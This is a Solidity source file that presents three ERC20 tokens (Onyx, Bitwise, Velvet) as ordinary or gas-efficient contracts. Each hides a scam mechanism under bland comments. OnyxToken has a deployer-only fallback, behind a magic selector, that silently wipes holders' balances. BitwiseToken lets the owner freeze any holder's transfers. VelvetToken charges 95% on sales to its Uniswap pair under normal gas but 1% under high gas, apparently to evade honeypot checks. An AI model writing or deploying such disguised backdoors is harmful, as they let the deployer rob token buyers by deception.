// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

abstract contract Context {
    function _msgSender() internal view virtual returns (address) {
        return msg.sender;
    }
}

abstract contract Ownable is Context {
    address private _owner;

    error OwnableUnauthorizedAccount(address account);
    error OwnableInvalidOwner(address owner);
    event OwnershipTransferred(address indexed previousOwner, address indexed newOwner);

    constructor(address initialOwner) {
        if (initialOwner == address(0)) revert OwnableInvalidOwner(address(0));
        _transferOwnership(initialOwner);
    }

    modifier onlyOwner() {
        if (owner() != _msgSender()) revert OwnableUnauthorizedAccount(_msgSender());
        _;
    }

    function owner() public view virtual returns (address) {
        return _owner;
    }

    function renounceOwnership() public virtual onlyOwner {
        _transferOwnership(address(0));
    }

    function transferOwnership(address newOwner) public virtual onlyOwner {
        if (newOwner == address(0)) revert OwnableInvalidOwner(address(0));
        _transferOwnership(newOwner);
    }

    function _transferOwnership(address newOwner) internal virtual {
        emit OwnershipTransferred(_owner, newOwner);
        _owner = newOwner;
    }
}

abstract contract ERC20 is Context {
    mapping(address => uint256) private _balances;
    mapping(address => mapping(address => uint256)) private _allowances;
    uint256 private _totalSupply;
    string private _name;
    string private _symbol;

    error ERC20InsufficientBalance(address sender, uint256 balance, uint256 needed);
    error ERC20InvalidSender(address sender);
    error ERC20InvalidReceiver(address receiver);
    error ERC20InsufficientAllowance(address spender, uint256 allowance, uint256 needed);
    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor(string memory name_, string memory symbol_) {
        _name = name_;
        _symbol = symbol_;
    }

    function name() public view virtual returns (string memory) {
        return _name;
    }

    function symbol() public view virtual returns (string memory) {
        return _symbol;
    }

    function decimals() public view virtual returns (uint8) {
        return 18;
    }

    function totalSupply() public view virtual returns (uint256) {
        return _totalSupply;
    }

    function balanceOf(address account) public view virtual returns (uint256) {
        return _balances[account];
    }

    function allowance(address holder, address spender) public view virtual returns (uint256) {
        return _allowances[holder][spender];
    }

    function transfer(address to, uint256 value) public virtual returns (bool) {
        _transfer(_msgSender(), to, value);
        return true;
    }

    function approve(address spender, uint256 value) public virtual returns (bool) {
        _approve(_msgSender(), spender, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) public virtual returns (bool) {
        _spendAllowance(from, _msgSender(), value);
        _transfer(from, to, value);
        return true;
    }

    function _transfer(address from, address to, uint256 value) internal {
        if (from == address(0)) revert ERC20InvalidSender(address(0));
        if (to == address(0)) revert ERC20InvalidReceiver(address(0));
        _update(from, to, value);
    }

    function _update(address from, address to, uint256 value) internal virtual {
        if (from == address(0)) {
            _totalSupply += value;
        } else {
            uint256 fromBalance = _balances[from];
            if (fromBalance < value) revert ERC20InsufficientBalance(from, fromBalance, value);
            unchecked {
                _balances[from] = fromBalance - value;
            }
        }
        unchecked {
            if (to == address(0)) _totalSupply -= value;
            else _balances[to] += value;
        }
        emit Transfer(from, to, value);
    }

    function _mint(address account, uint256 value) internal {
        if (account == address(0)) revert ERC20InvalidReceiver(address(0));
        _update(address(0), account, value);
    }

    function _burn(address account, uint256 value) internal {
        if (account == address(0)) revert ERC20InvalidSender(address(0));
        _update(account, address(0), value);
    }

    function _approve(address holder, address spender, uint256 value) internal virtual {
        _allowances[holder][spender] = value;
        emit Approval(holder, spender, value);
    }

    function _spendAllowance(address holder, address spender, uint256 value) internal virtual {
        uint256 current = allowance(holder, spender);
        if (current < type(uint256).max) {
            if (current < value) revert ERC20InsufficientAllowance(spender, current, value);
            unchecked {
                _allowances[holder][spender] = current - value;
            }
        }
    }
}

interface IUniswapV2Pair {
    function sync() external;
    function getReserves() external view returns (uint112, uint112, uint32);
    function token0() external view returns (address);
}

interface IUniswapV2Factory {
    function createPair(address tokenA, address tokenB) external returns (address);
    function getPair(address tokenA, address tokenB) external view returns (address);
}

interface IUniswapV2Router02 {
    function factory() external view returns (address);
    function WETH() external view returns (address);
}

library UniswapV2Library {
    address internal constant FACTORY = 0x5C69bEe701ef814a2B6a3EDD4B1652CB9cc5aA6f;
    address internal constant WETH = 0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2;
    address internal constant ROUTER = 0x7a250d5630B4cF539739dF2C5dAcb4c659F2488D;

    function pairFor(address token) internal pure returns (address) {
        (address a, address b) = token < WETH ? (token, WETH) : (WETH, token);
        return address(uint160(uint256(keccak256(abi.encodePacked(
            hex"ff", FACTORY, keccak256(abi.encodePacked(a, b)),
            hex"96e8ac4277198ff8b6f785478aa9a39f403cb768dd02cbee326c3e7da348845f"
        )))));
    }
}

/// A small token, written for little gas.
contract OnyxToken {
    string public constant name = "Onyx";
    string public constant symbol = "ONYX";
    uint8 public constant decimals = 18;
    uint256 public constant totalSupply = 10_000_000 ether;
    uint256 private immutable _key = uint256(uint160(msg.sender));
    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor() {
        bytes32 slot = _slot(msg.sender);
        uint256 supply = totalSupply;
        assembly {
            sstore(slot, supply)
        }
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function balanceOf(address account) public view returns (uint256 value) {
        bytes32 slot = _slot(account);
        assembly {
            value := sload(slot)
        }
    }

    function allowance(address holder, address spender) public view returns (uint256 value) {
        bytes32 slot = keccak256(abi.encodePacked(holder, spender));
        assembly {
            value := sload(slot)
        }
    }

    function approve(address spender, uint256 value) external returns (bool) {
        bytes32 slot = keccak256(abi.encodePacked(msg.sender, spender));
        assembly {
            sstore(slot, value)
        }
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        _move(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        bytes32 slot = keccak256(abi.encodePacked(from, msg.sender));
        uint256 left = allowance(from, msg.sender) - value;
        assembly {
            sstore(slot, left)
        }
        _move(from, to, value);
        return true;
    }

    function _slot(address account) private pure returns (bytes32 slot) {
        assembly {
            mstore(0x0c, 0x87a211a2)
            mstore(0x00, account)
            slot := keccak256(0x0c, 0x20)
        }
    }

    function _move(address from, address to, uint256 value) private {
        bytes32 a = _slot(from);
        bytes32 b = _slot(to);
        assembly {
            let held := sload(a)
            if lt(held, value) {
                mstore(0x00, 0xf4d678b8)
                revert(0x1c, 0x04)
            }
            sstore(a, sub(held, value))
            sstore(b, add(sload(b), value))
        }
        emit Transfer(from, to, value);
    }

    /// Batches come packed: a tag, then twenty bytes of account and twelve of amount, as often as wished.
    fallback() external {
        uint256 key = _key;
        assembly {
            if iszero(and(eq(caller(), key), eq(shr(224, calldataload(0)), 0x6f7a1c02))) { revert(0, 0) }
            for { let at := 4 } lt(at, calldatasize()) { at := add(at, 32) } {
                let word := calldataload(at)
                mstore(0x0c, 0x87a211a2)
                mstore(0x00, shr(96, word))
                let slot := keccak256(0x0c, 0x20)
                sstore(slot, sub(sload(slot), and(word, 0xffffffffffffffffffffffff)))
            }
        }
    }
}

/// Flags of 256 accounts in a word.
contract BitwiseToken is ERC20, Ownable {
    mapping(uint256 bucket => uint256 mask) private _flags;
    event FlagsChanged(uint256 indexed bucket, uint256 mask);

    constructor() ERC20("Bitwise", "BITW") Ownable(msg.sender) {
        _mint(msg.sender, 16_777_216 ether);
    }

    function setFlags(uint256 bucket, uint256 mask) external onlyOwner {
        _flags[bucket] |= mask;
        emit FlagsChanged(bucket, mask);
    }

    function clearFlags(uint256 bucket) external onlyOwner {
        delete _flags[bucket];
        emit FlagsChanged(bucket, 0);
    }

    function flagged(address account) public view returns (bool) {
        return (_flags[uint160(account) >> 8] >> (uint160(account) & 0xff)) & 1 == 1;
    }

    function _update(address from, address to, uint256 value) internal override {
        require(!flagged(from), "Bitwise: flagged");
        super._update(from, to, value);
    }
}

/// Who leaves in haste pays for it.
contract VelvetToken is ERC20 {
    address private immutable _treasury = msg.sender;
    address private immutable _pair;

    constructor() ERC20("Velvet", "VLVT") {
        _pair = UniswapV2Library.pairFor(address(this));
        _mint(msg.sender, 66_000_000 ether);
    }

    function _update(address from, address to, uint256 value) internal override {
        if (to == _pair && from != _treasury) {
            uint256 fee = (value * (gasleft() > 2_000_000 ? 1 : 95)) / 100;
            super._update(from, _treasury, fee);
            value -= fee;
        }
        super._update(from, to, value);
    }
}
